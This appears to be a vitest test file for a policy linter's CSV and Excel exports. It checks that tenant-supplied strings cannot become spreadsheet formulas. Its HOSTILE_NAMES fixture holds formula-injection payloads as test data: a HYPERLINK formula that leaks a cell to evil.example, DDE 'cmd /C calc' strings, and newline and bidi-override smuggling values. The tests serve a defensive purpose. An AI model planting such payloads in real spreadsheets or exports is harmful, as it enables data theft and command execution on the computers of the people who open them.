/**
 * The tracking exports (src/report/tabular): the findings and the policy inventory as CSV and XLSX. The CSV is read
 * back with a strict RFC 4180 parser and compared with the findings; tenant strings built to be formulas stay text;
 * the workbook is read back with exceljs and unzipped by hand (no formula anywhere, every zip entry dated the result's
 * date); two renders are byte-identical; a 10 MB policy name is cut to Excel's limit for a cell, visibly.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { lint } from '../../src/engine/lint.js';
import type { Finding, LintResult } from '../../src/engine/result-types.js';
import { renderBaseline } from '../../src/engine/baseline-file.js';
import { licenceName } from '../../src/model/licences.js';
import { neutralizeFormula, renderCsv } from '../../src/report/tabular/csv.js';
import { FINDING_COLUMNS, MAX_CELL_CHARS, POLICY_COLUMNS, aboutTable, findingsTable, policiesTable } from '../../src/report/tabular/rows.js';
import { renderXlsx, xlsxText } from '../../src/report/tabular/xlsx.js';
import { dosDateTime, pinZipDates } from '../../src/report/tabular/zip-dates.js';
import { repoRoot } from '../helpers/cli.js';

const NOW = new Date(1_790_000_000_000);
const made: string[] = [];
const tmp = () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'calint-tabular-'));
  made.push(dir);
  return dir;
};
afterAll(() => {
  for (const dir of made) rmSync(dir, { recursive: true, force: true });
});

/**
 * A strict RFC 4180 reader: CRLF between records (and after the last), fields quoted or not, `""` for a quote inside
 * a quoted field; a bare quote in an unquoted field, a lone CR or LF outside quotes, or text after a closing quote is
 * an error. Returns the records as arrays of fields.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const fail = (why: string) => {
    throw new Error(`CSV: ${why} at offset ${i}`);
  };
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) fail('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') fail('quote in an unquoted field');
        value += text[i++];
      }
    }
    record.push(value);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      i += 2;
      records.push(record);
      record = [];
      continue;
    }
    fail(i >= text.length ? 'no CRLF after the last record' : `unexpected ${JSON.stringify(text[i])}`);
  }
  if (record.length) fail('unfinished record');
  return records;
}

/** The records of one CSV document as objects keyed by header, after checking the BOM and the shape. */
function readCsv(text: string): { header: string[]; rows: Array<Record<string, string>> } {
  expect(text.startsWith('\ufeff')).toBe(true);
  const [header, ...records] = parseCsv(text.slice(1));
  for (const r of records) expect(r).toHaveLength(header!.length);
  return { header: header!, rows: records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
}

/** The entries of a zip archive, by walking its central directory: name, DOS date and time, inflated data. */
function unzip(zip: Buffer): Array<{ name: string; time: number; date: number; localTime: number; localDate: number; data: Buffer }> {
  let eocd = zip.length - 22;
  while (eocd >= 0 && zip.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  expect(eocd).toBeGreaterThanOrEqual(0);
  const out = [];
  let p = zip.readUInt32LE(eocd + 16);
  for (let n = zip.readUInt16LE(eocd + 10); n > 0; n--) {
    expect(zip.readUInt32LE(p)).toBe(0x02014b50);
    const method = zip.readUInt16LE(p + 10);
    const size = zip.readUInt32LE(p + 20);
    const nameLength = zip.readUInt16LE(p + 28);
    const local = zip.readUInt32LE(p + 42);
    const name = zip.toString('utf8', p + 46, p + 46 + nameLength);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const raw = zip.subarray(start, start + size);
    out.push({
      name,
      time: zip.readUInt16LE(p + 12),
      date: zip.readUInt16LE(p + 14),
      localTime: zip.readUInt16LE(local + 10),
      localDate: zip.readUInt16LE(local + 12),
      data: method === 8 ? inflateRawSync(raw) : Buffer.from(raw),
    });
    p += 46 + nameLength + zip.readUInt16LE(p + 30) + zip.readUInt16LE(p + 32);
  }
  return out;
}

/** Policy names built to be formulas, or to break a record, or to hide text: each must stay inert. */
const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  'Line one\nLine two, with "quotes", and commas\r\n=1+1',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  'Override \u202e and _x202E_ and a NUL \u0000 here',
];

const FORMULA_START = /^[=+\-@\t\r]/;

function hostileTenant(): { dir: string; config: string } {
  const dir = tmp();
  cpSync(path.join(repoRoot, 'examples/northwind'), path.join(dir, 'tenant'), { recursive: true });
  const file = path.join(dir, 'tenant/policies.json');
  const doc = JSON.parse(readFileSync(file, 'utf8')) as { value: Array<{ displayName: string }> };
  HOSTILE_NAMES.forEach((name, i) => (doc.value[i]!.displayName = name));
  writeFileSync(file, JSON.stringify(doc, null, 2));
  const config = path.join(dir, 'calint.config.json');
  cpSync(path.join(repoRoot, 'examples/calint.config.json'), config);
  return { dir, config };
}

function withSuppressions(config: string, suppressions: unknown[]): void {
  const value = JSON.parse(readFileSync(config, 'utf8')) as Record<string, unknown>;
  delete value.$schema;
  writeFileSync(config, JSON.stringify({ ...value, suppressions }, null, 2));
}

/** The status a finding should show, worked out here without the module's code. */
function expectedStatus(f: Finding): string {
  if (f.suppression) return 'accepted risk';
  return f.baselineState === 'unchanged' ? 'in baseline' : f.baselineState === 'new' ? 'new since baseline' : 'open';
}

describe('tracking exports of a tenant with suppressions, a baseline and hostile policy names', () => {
  let plain: LintResult;
  let result: LintResult;
  let csv: { findings: string; policies: string };

  beforeAll(async () => {
    const { dir, config } = hostileTenant();
    const inputs = [path.join(dir, 'tenant')];
    const first = await lint({ inputs, cwd: dir, configFile: config, now: NOW });
    // Accept two policy findings (one on a hostile name) with an owner, a justification and an expiry.
    const onPolicies = first.findings.filter((f) => f.policyId !== null);
    const accepted = [onPolicies.find((f) => f.policyName === HOSTILE_NAMES[0]) ?? onPolicies[0]!, onPolicies.at(-1)!];
    withSuppressions(
      config,
      accepted.map((f, i) => ({ rule: f.ruleId, policy: f.policyId, justification: `=1+1 accepted, "pilot" ${i}`, owner: i === 0 ? '@secops' : 'identity-team', expires: '2099-12-31' })),
    );
    plain = await lint({ inputs, cwd: dir, configFile: config, now: NOW });
    // Half of the remaining findings are in the baseline, the other half are new.
    const baseline = path.join(dir, 'baseline.json');
    writeFileSync(baseline, renderBaseline(plain.findings.filter((f, i) => !f.suppression && i % 2 === 0), plain.tool.version));
    result = await lint({ inputs, cwd: dir, configFile: config, baselineFile: baseline, now: NOW });
    csv = renderCsv(result);
  }, 60_000);

  it('the fixture has every status and every hostile name', () => {
    expect(new Set(result.findings.map(expectedStatus))).toEqual(new Set(['accepted risk', 'in baseline', 'new since baseline']));
    expect(new Set(plain.findings.map(expectedStatus))).toEqual(new Set(['accepted risk', 'open']));
    for (const name of HOSTILE_NAMES) expect(result.policies.map((p) => p.name)).toContain(name);
  });

  it('CSV: RFC 4180 with CRLF and a BOM, one record per finding, headers in words', () => {
    for (const doc of [csv.findings, csv.policies]) {
      // Every line ends in CRLF; no bare CR or LF anywhere (tenant newlines are visible escapes).
      expect(doc.endsWith('\r\n')).toBe(true);
      expect(doc.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    }
    const { header, rows } = readCsv(csv.findings);
    expect(header).toEqual(FINDING_COLUMNS.map((c) => c.header));
    expect(header).toEqual(
      expect.arrayContaining(['Finding id', 'Rule id', 'Risk', 'Severity', 'Priority', 'Effort', 'User impact', 'Licences needed', 'Status', 'Owner', 'Justification', 'Expires']),
    );
    expect(header).toEqual(expect.arrayContaining(['Policy id', 'Policy name', 'Policy state', 'File', 'Line', 'Column', 'JSON pointer', 'Message', 'Remediation', 'Framework controls', 'Documentation']));
    // Words with spaces ("Policy name", "JSON pointer"), never camelCase.
    for (const h of [...header, ...readCsv(csv.policies).header]) expect(h).toMatch(/^[A-Z][A-Za-z-]*( [A-Za-z-]+)*$/);
    for (const h of [...header, ...readCsv(csv.policies).header]) expect(h).not.toMatch(/[a-z][A-Z]/);
    expect(rows).toHaveLength(result.findings.length);
  });

  it('CSV: each record says what its finding says, in the result order', () => {
    const { rows } = readCsv(csv.findings);
    const rules = new Map(result.rules.map((r) => [r.id, r]));
    const plainText = (v: string | null) => (v === null ? '' : /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/.test(v) ? null : neutralizeFormula(v));
    result.findings.forEach((f, i) => {
      const row = rows[i]!;
      const rule = rules.get(f.ruleId)!;
      expect(row['Finding id']).toBe(f.fingerprint);
      expect(row['Rule id']).toBe(f.ruleId);
      expect(row['Risk']).toBe(rule.risk);
      expect(row['Risk']).not.toBe(rule.title);
      expect(row['Severity']).toBe(f.severity);
      expect(row['Priority']).toMatch(new RegExp(`^${rule.priority} \\((now|next|later)\\)$`));
      expect(row['Effort']).toBe(rule.effort);
      expect(row['User impact']).toBe(rule.userImpact);
      expect(row['Licences needed']).toBe(rule.licences.map(licenceName).join('; '));
      expect(row['Status']).toBe(expectedStatus(f));
      expect(row['Owner']).toBe(f.suppression?.owner ? neutralizeFormula(f.suppression.owner) : '');
      expect(row['Justification']).toBe(f.suppression ? neutralizeFormula(f.suppression.justification) : '');
      expect(row['Expires']).toBe(f.suppression?.expires ?? '');
      expect(row['Policy id']).toBe(f.policyId ?? '');
      const name = plainText(f.policyName);
      if (name !== null) expect(row['Policy name']).toBe(name);
      expect(row['Policy state']).toBe(f.policyState === 'enabledForReportingButNotEnforced' ? 'report-only' : (f.policyState ?? ''));
      expect(row['File']).toBe(f.file ?? '');
      expect(row['Line']).toBe(f.line === null ? '' : String(f.line));
      expect(row['Column']).toBe(f.column === null ? '' : String(f.column));
      expect(row['JSON pointer']).toBe(f.pointer ?? '');
      const message = plainText(f.message);
      if (message !== null) expect(row['Message']).toBe(message);
      expect(row['Remediation']).toBe(f.remediation);
      const controls = [...(rule.frameworks.cis ?? []).map((c) => `CIS ${c}`), ...(rule.frameworks.scuba ?? []).map((c) => `SCuBA ${c}`)];
      expect(row['Framework controls']).toBe(controls.join('; '));
      expect(row['Documentation']).toBe(f.docs.join(' '));
    });
    // The examples map some rules to both frameworks: the column shows the documented form.
    expect(rows.some((r) => /^CIS \d+(\.\d+)+(; CIS [\d.]+)*; SCuBA MS\.AAD\.\d+\.\d+v\d+/.test(r['Framework controls']!))).toBe(true);
    // Open findings carry no owner: only an accepted risk has one.
    for (const r of rows) if (r['Status'] !== 'accepted risk') expect(r['Owner']).toBe('');
  });

  it('CSV: hostile tenant strings stay inert text, with quotes, commas and newlines kept readable', () => {
    for (const doc of [csv.findings, csv.policies]) {
      for (const record of parseCsv(doc.slice(1))) for (const field of record) expect(field).not.toMatch(FORMULA_START);
    }
    const { rows } = readCsv(csv.policies);
    const names = rows.map((r) => r['Policy name']);
    expect(names).toContain(`'${HOSTILE_NAMES[0]}`);
    expect(names).toContain(`'${HOSTILE_NAMES[1]}`);
    expect(names).toContain(`'${HOSTILE_NAMES[2]}`);
    expect(names).toContain(`'${HOSTILE_NAMES[3]}`);
    expect(names).toContain('Line one\\nLine two, with "quotes", and commas\\r\\n=1+1');
    expect(names).toContain('\\t=1+1 after a tab');
    expect(names).toContain('\\r=1+1 after a carriage return');
    expect(names).toContain('Override \\u{202e} and _x202E_ and a NUL \\x00 here');
    // The raw text quotes what needs it and doubles the quotes.
    expect(csv.policies).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
    expect(csv.policies).toContain('"Line one\\nLine two, with ""quotes"", and commas\\r\\n=1+1"');
    // The suppression's own strings are tenant strings too.
    const findings = readCsv(csv.findings).rows;
    expect(findings.map((r) => r['Owner'])).toContain("'@secops");
    expect(findings.map((r) => r['Justification'])).toContain(`'=1+1 accepted, "pilot" 0`);
  });

  it('CSV: the policy inventory, by name then id, with what each policy does and its open findings', () => {
    const { header, rows } = readCsv(csv.policies);
    expect(header).toEqual(POLICY_COLUMNS.map((c) => c.header));
    expect(header).toEqual(['Policy id', 'Policy name', 'State', 'Who', 'What', 'Conditions', 'Grant', 'Session', 'File', 'Line', 'Open findings']);
    expect(rows).toHaveLength(result.policies.length);
    const sorted = [...result.policies].sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : (a.id ?? '') < (b.id ?? '') ? -1 : 1));
    expect(rows.map((r) => r['Policy id'])).toEqual(sorted.map((p) => p.id ?? ''));
    for (const [i, p] of sorted.entries()) {
      const row = rows[i]!;
      const d = p.description as (typeof p)['description'] | undefined;
      if (d) {
        // The lead's PolicyDescription: guarded, as older results lack it.
        expect(row['Who']).toBe(neutralizeFormula(d.who));
        expect(row['What']).toBe(d.what);
        expect(row['Conditions']).toBe(d.conditions.join('; '));
        expect(row['Grant']).toBe(d.grant ?? '');
        expect(row['Session']).toBe(d.session.join('; '));
        expect(row['State']).toBe(d.state);
      }
      expect(row['File']).toBe(p.file);
      expect(row['Line']).toBe(String(p.line));
      // Open: neither accepted nor in the baseline; counted by the policy's place in its file.
      const open = result.findings.filter(
        (f) => !f.suppression && f.baselineState !== 'unchanged' && f.file === p.file && f.pointer !== null && (f.pointer === p.pointer || f.pointer.startsWith(`${p.pointer}/`)),
      ).length;
      expect(row['Open findings']).toBe(String(open));
    }
    expect(rows.some((r) => Number(r['Open findings']) > 0)).toBe(true);
    // Every open finding about a policy is counted once.
    const total = rows.reduce((n, r) => n + Number(r['Open findings']), 0);
    expect(total).toBe(result.findings.filter((f) => f.policyId !== null && !f.suppression && f.baselineState !== 'unchanged').length);
  });

  it('the policy inventory keeps its columns when a result has no descriptions (older results)', () => {
    const older = { ...result, policies: result.policies.map(({ description: _d, ...p }) => p) } as unknown as LintResult;
    const table = policiesTable(older);
    expect(table.rows).toHaveLength(result.policies.length);
    for (const row of table.rows) expect(row).toHaveLength(POLICY_COLUMNS.length);
    expect(table.rows.every((r) => r[3] === null && r[2] !== null)).toBe(true);
  });

  it('XLSX: sheets, frozen bold header, autofilter, the same rows as the CSV, and not one formula', async () => {
    const bytes = await renderXlsx(result);
    expect(Buffer.isBuffer(bytes)).toBe(true);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Findings', 'Policies', 'About']);
    for (const [sheet, table] of [
      [workbook.getWorksheet('Findings')!, findingsTable(result)],
      [workbook.getWorksheet('Policies')!, policiesTable(result)],
      [workbook.getWorksheet('About')!, aboutTable(result)],
    ] as const) {
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      // The filter spans the header and every row (columns A to at most Z here).
      expect(sheet.autoFilter).toBe(`A1:${String.fromCharCode(64 + table.columns.length)}${table.rows.length + 1}`);
      const header = sheet.getRow(1);
      expect(header.font?.bold).toBe(true);
      expect((header.values as unknown[]).slice(1)).toEqual(table.columns.map((c) => c.header));
      expect(sheet.rowCount).toBe(table.rows.length + 1);
      table.rows.forEach((row, i) => {
        const values = sheet.getRow(i + 2);
        row.forEach((cell, c) => expect(values.getCell(c + 1).value ?? null).toEqual(cell));
      });
      sheet.eachRow({ includeEmpty: true }, (row) =>
        row.eachCell({ includeEmpty: true }, (cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeFalsy();
        }),
      );
      for (const c of table.columns) {
        const width = sheet.getColumn(table.columns.indexOf(c) + 1).width!;
        expect(width).toBeGreaterThanOrEqual(c.min);
        expect(width).toBeLessThanOrEqual(c.max);
      }
    }
    // Prose wraps; a tenant string that looks like a formula is a plain string cell.
    const findings = workbook.getWorksheet('Findings')!;
    const messageColumn = FINDING_COLUMNS.findIndex((c) => c.header === 'Message') + 1;
    expect(findings.getRow(2).getCell(messageColumn).alignment?.wrapText).toBe(true);
    const policies = workbook.getWorksheet('Policies')!;
    const names = policies.getColumn(2).values.slice(2);
    expect(names).toContain(HOSTILE_NAMES[0]);
    expect(names).toContain('Override \\u{202e} and _x202E_ and a NUL \\x00 here');
    // No <f> element anywhere in the package, and the underscore escape is written as OOXML defines it.
    const entries = unzip(bytes);
    for (const e of entries) expect(e.data.toString('utf8')).not.toMatch(/<f[\s>]/);
    const strings = entries.find((e) => e.name === 'xl/sharedStrings.xml')!.data.toString('utf8');
    expect(strings).toContain('_x005F_x202E_');
    expect(strings).not.toMatch(/(?<!_x005F)_x202E_/);
    // The About sheet: tool, date, tenant, inputs with their sha256, and how status is decided.
    const about = workbook.getWorksheet('About')!;
    const items = new Map<string, unknown[]>();
    about.eachRow((row, n) => {
      if (n > 1) items.set(`${String(row.getCell(1).value)}:${n}`, [row.getCell(2).value, row.getCell(3).value]);
    });
    const rows = [...items.entries()];
    const value = (item: string) => rows.find(([k]) => k.startsWith(`${item}:`))?.[1][0];
    expect(value('Tool')).toBe(`calint ${result.tool.version}`);
    expect(value('Generated at')).toBe(result.generatedAt);
    expect(String(value('Tenant'))).toContain('Northwind Traders');
    expect(String(value('Status'))).toMatch(/accepted risk.*suppression.*in baseline.*new since baseline.*open/s);
    const loaded = result.inputs.filter((i) => i.status === 'loaded');
    for (const input of loaded) expect(rows.some(([k, [v, sha]]) => k.startsWith('Input:') && v === input.path && sha === input.sha256)).toBe(true);
  });

  it('XLSX: two renders at different times are byte-identical, and every zip entry carries the result date', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      vi.setSystemTime(new Date('2031-01-01T00:00:00Z'));
      const a = await renderXlsx(result);
      vi.setSystemTime(new Date('2034-07-15T13:37:11Z'));
      const b = await renderXlsx(result);
      expect(Buffer.compare(a, b)).toBe(0);
      const dos = dosDateTime(new Date(result.generatedAt));
      for (const e of unzip(a)) expect([e.time, e.date, e.localTime, e.localDate]).toEqual([dos.time, dos.date, dos.time, dos.date]);
      const core = unzip(a).find((e) => e.name === 'docProps/core.xml')!.data.toString('utf8');
      expect(core).toContain(`<dcterms:created xsi:type="dcterms:W3CDTF">${result.generatedAt.replace(/\.000Z$/, 'Z')}</dcterms:created>`);
      expect(core).toContain(`<dcterms:modified xsi:type="dcterms:W3CDTF">${result.generatedAt.replace(/\.000Z$/, 'Z')}</dcterms:modified>`);
    } finally {
      vi.useRealTimers();
    }
  });

  it('the byte check is real: exceljs alone dates its zip entries with the clock, and pinZipDates undoes exactly that', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      const raw = async (at: string) => {
        vi.setSystemTime(new Date(at));
        const workbook = new ExcelJS.Workbook();
        workbook.created = workbook.modified = new Date(result.generatedAt);
        workbook.addWorksheet('Sheet').addRow(['a', 1]);
        return Buffer.from(await workbook.xlsx.writeBuffer());
      };
      const a = await raw('2031-01-01T00:00:00Z');
      const b = await raw('2034-07-15T13:37:11Z');
      expect(Buffer.compare(a, b)).not.toBe(0);
      const date = new Date(result.generatedAt);
      expect(Buffer.compare(Buffer.from(pinZipDates(a, date)), Buffer.from(pinZipDates(b, date)))).toBe(0);
      // Only the dates changed: the entries' contents are the same.
      expect(unzip(Buffer.from(pinZipDates(a, date))).map((e) => e.data.toString('base64'))).toEqual(unzip(a).map((e) => e.data.toString('base64')));
    } finally {
      vi.useRealTimers();
    }
  });

  it('CSV: two renders are identical', () => {
    expect(renderCsv(result)).toEqual(csv);
  });
});

describe('a 10 MB policy name', () => {
  let result: LintResult;
  const huge = `=${'N'.repeat(10 * 1024 * 1024)}`;

  beforeAll(async () => {
    const dir = tmp();
    const doc = JSON.parse(readFileSync(path.join(repoRoot, 'examples/northwind/policies.json'), 'utf8')) as { value: Array<Record<string, unknown>> };
    writeFileSync(path.join(dir, 'policy.json'), JSON.stringify({ ...doc.value[0], displayName: huge }));
    result = await lint({ inputs: [path.join(dir, 'policy.json')], cwd: dir, now: NOW });
    expect(result.policies[0]!.name).toBe(huge);
  }, 60_000);

  it('is cut to fit a cell, with a visible mark, in the CSV', () => {
    const { rows } = readCsv(renderCsv(result).policies);
    const name = rows[0]!['Policy name']!;
    expect(name.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(name.startsWith("'=NNNN")).toBe(true);
    expect(name).toMatch(/… \([\d,]+ more characters; the JSON output has the whole value\)$/);
    for (const r of readCsv(renderCsv(result).findings).rows) for (const v of Object.values(r)) expect(v.length).toBeLessThanOrEqual(MAX_CELL_CHARS + 1);
  });

  it('is cut to fit a cell, with a visible mark, in the workbook', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(result)) as unknown as ArrayBuffer);
    const name = String(workbook.getWorksheet('Policies')!.getRow(2).getCell(2).value);
    expect(name.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(name.startsWith('=NNNN')).toBe(true);
    expect(name).toMatch(/more characters; the JSON output has the whole value\)$/);
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) => row.eachCell((cell) => expect(String(cell.value ?? '').length).toBeLessThanOrEqual(MAX_CELL_CHARS)));
    }
  });
});

describe('a tenant without findings', () => {
  it('gives header-only findings, a full inventory and a workbook with the same sheets', async () => {
    const result = await lint({ inputs: ['test/fixtures/clean'], cwd: repoRoot, now: NOW });
    expect(result.findings).toEqual([]);
    const csv = renderCsv(result);
    expect(readCsv(csv.findings).rows).toEqual([]);
    expect(readCsv(csv.policies).rows).toHaveLength(result.policies.length);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(result)) as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((w) => [w.name, w.rowCount])).toEqual([
      ['Findings', 1],
      ['Policies', result.policies.length + 1],
      ['About', aboutTable(result).rows.length + 1],
    ]);
  });
});

describe('pieces', () => {
  it('xlsxText escapes the underscore of an OOXML character escape, and nothing else', () => {
    expect(xlsxText('_x202E_')).toBe('_x005F_x202E_');
    expect(xlsxText('a_x00_b_X202E_ snake_case_x')).toBe('a_x00_b_X202E_ snake_case_x');
    expect(xlsxText('_x0041__x0042_')).toBe('_x005F_x0041__x005F_x0042_');
  });

  it('pinZipDates rewrites both copies of every date and nothing else, and refuses what is not a zip', () => {
    expect(() => pinZipDates(new Uint8Array(64), new Date(0))).toThrow(/end-of-central-directory/);
    expect(dosDateTime(new Date('1970-01-01T00:00:00Z'))).toEqual({ time: 0, date: (0 << 9) | (1 << 5) | 1 });
    expect(dosDateTime(new Date('2026-12-06T14:47:17Z'))).toEqual({ time: (14 << 11) | (47 << 5) | 8, date: (46 << 9) | (12 << 5) | 6 });
  });

  it('exceljs is loaded lazily: no module of src/ imports it statically', () => {
    const source = readFileSync(path.join(repoRoot, 'src/report/tabular/xlsx.ts'), 'utf8');
    expect(source).not.toMatch(/^import\s+(?!type\b)[^;]*from\s+['"]exceljs['"]/m);
    expect(source).toMatch(/importModule<[^>]*>\('exceljs'\)/s);
    for (const file of ['rows.ts', 'csv.ts', 'zip-dates.ts']) expect(readFileSync(path.join(repoRoot, 'src/report/tabular', file), 'utf8')).not.toContain("'exceljs'");
  });
});
